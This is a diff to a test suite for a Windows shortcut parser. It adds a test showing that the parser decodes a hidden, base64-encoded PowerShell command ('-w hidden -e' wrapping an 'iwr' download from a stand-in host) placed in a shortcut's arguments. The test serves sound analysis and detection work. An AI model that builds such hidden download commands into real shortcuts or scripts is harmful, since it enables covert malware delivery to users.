@@ -1,5 +1,6 @@
 """Windows shortcuts: arguments in any script, environment blocks, what is appended, damage."""
 
+import base64
 import random
 import struct
 
@@ -41,6 +42,12 @@ def test_strings_from_their_places_behind_target_and_link_information() -> None:
         Text(arguments, "arguments"),
         Text("%ProgramFiles%\\x.ico", "icon"),
     ]
+
+
+def test_an_encoded_command_is_decoded() -> None:
+    command = base64.b64encode("iwr https://x.example/a".encode("utf-16-le")).decode()
+    data = shortcut(ARGUMENTS | UNICODE, wide(f"/c powershell -w hidden -e {command}"), bytes(4))
+    assert Text("iwr https://x.example/a", "arguments, decoded") in read(data)
 
 
 def test_eight_bit_strings() -> None:
